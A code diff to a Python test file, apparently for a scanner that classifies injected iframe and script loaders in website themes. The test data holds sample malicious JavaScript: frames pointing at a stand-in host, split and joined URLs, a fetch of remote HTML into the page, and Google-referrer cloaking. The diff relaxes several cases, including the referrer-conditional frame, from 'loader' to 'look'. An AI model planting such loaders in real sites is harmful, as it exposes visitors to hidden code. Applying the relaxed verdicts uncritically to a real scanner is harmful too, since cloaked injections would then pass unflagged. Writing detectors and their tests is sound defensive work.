@@ -51,8 +51,7 @@ HANDED_OVER = (
 )
 FRAME = "f=document.createElement(\\'iframe\\');f.src=\\'https://cdn.jahat.example/k.html\\';"
 PACKED_ACTS = [
-    # What is packed and makes a frame, or looks who comes from a search is no theme's news,
-    # whatever a comment says and whichever elements of the page it names.
+    # What is packed and makes a frame in sight, or looks who comes from a search, makers do, too.
     packed(FRAME + "document.body.appendChild(f)", ["a"]),
     packed("$(\\'.menu\\').hide();" + FRAME + "$(\\'body\\').append(f)", ["a"]),
     packed(
@@ -76,7 +75,6 @@ CONTENTS.append(
     "'hat.exa','mple/a'].join('');fetch(p).then(r=>r.text()).then(h=>{k.innerHTML=h})})()"
 )
 LOADERS = [
-    *((source, credit) for source in PACKED_ACTS for credit in ("", SAYS)),
     # The owner's name is cut, or the ending.
     (OLD.format("['https:/','/ja','hat.exa','mple/a'].join('')"), ""),
     (OLD.format("'https://jahat.'+'exa'+'mple/a.js'"), ""),
@@ -94,6 +92,17 @@ LOADERS = [
 def test_what_is_hidden_by_half(source: str, page: str) -> None:
     assert on_page(source, page).message == "look"
     assert in_file(source, page).outcome is Outcome.PASS
+
+
+@pytest.mark.parametrize("source", PACKED_ACTS)
+@pytest.mark.parametrize("page", ["", SAYS])
+def test_what_a_packed_theme_does_as_well(source: str, page: str) -> None:
+    assert on_page(source, page).message == "look"
+    # Out of sight, or on a line of other code, it is not.
+    hidden = source.replace("f.src=", "f.style.display=\\'none\\';f.src=")
+    if hidden != source:
+        assert on_page(hidden, page).message == "loader"
+    assert on_page(f"menu();{' ' * 200}{source}", page).message == "loader"
 
 
 @pytest.mark.parametrize(("source", "page"), LOADERS)
@@ -256,6 +265,7 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
         (SHEET, "look"),
         ('<img src="//cdn.temaku.example/logo.png">', "look"),
         ('<a href="https://temaku.example/">Temaku</a>', "look"),
+        # A frame out of sight that nothing explains.
         ("", "loader"),
         ('<link rel="stylesheet" href="https://cdn.lain.example/huruf.css">', "loader"),
         # A link in hiding says nothing, nor does a comment.
@@ -266,7 +276,8 @@ SHEET = '<link rel="stylesheet" href="https://cdn.temaku.example/huruf.css">'
 def test_a_packed_theme_by_what_the_page_has_from_its_maker(page: str, message: str) -> None:
     exchange = Exchange(url=URL, status=200, headers=())
     markup = read(site(page), URL, ZONE, exchange, truncated=False)
-    counted = packed(FRAME.replace("jahat", "temaku") + "document.body.appendChild(f)", ["a"])
+    frame = f"{FRAME.replace('jahat', 'temaku')}f.width=1;f.height=1;"
+    counted = packed(frame + "document.body.appendChild(f)", ["a"])
     assert on_page(counted, page, markup).message == message
     # That it loads a script for everybody proves nothing by itself.
     assert on_page(news("cdn.temaku.example"), page, markup).message == "look"
@@ -324,13 +335,15 @@ SIZE = "e.width=296;e.height='320px';"
     [
         (SIZE, "look"),
         ("e.height=200;e.frameBorder=0;e.width='250';", "look"),
-        ("", "loader"),
+        # Without a size, or in another place, or for some.
+        ("", "look"),
+        ("e.width=296;", "look"),
+        (SIZE + "e.setAttribute('style','position:fixed');", "look"),
+        (SIZE + "e.className='x';", "look"),
+        (SIZE + "if(/google/.test(document.referrer))e.src+='&g';", "look"),
+        # Out of sight.
         ("e.width=1;e.height=1;", "loader"),
-        ("e.width=296;", "loader"),
         (SIZE + "e.style.display='none';", "loader"),
-        (SIZE + "e.setAttribute('style','position:fixed');", "loader"),
-        (SIZE + "e.className='x';", "loader"),
-        (SIZE + "if(/google/.test(document.referrer))e.src+='&g';", "loader"),
     ],
 )
 def test_a_frame_in_sight_from_an_address_in_disguise(given: str, message: str) -> None:
@@ -340,6 +353,6 @@ def test_a_frame_in_sight_from_an_address_in_disguise(given: str, message: str) 
 def test_a_frame_in_sight_beside_a_script_or_of_the_trade() -> None:
     source = BOX.format(SIZE)
     more = "var s=document.createElement('script');s.src='//'+h+'/a.js';document.body.append(s);"
-    assert on_page(BOX.format(SIZE + more), "").message == "loader"
+    assert on_page(BOX.format(SIZE + more), "").message == "look"
     trade = source.replace("elpmaxe.kotokorbo.w", "elpmaxe.77rocag")
     assert on_page(trade, "").message == "loader"
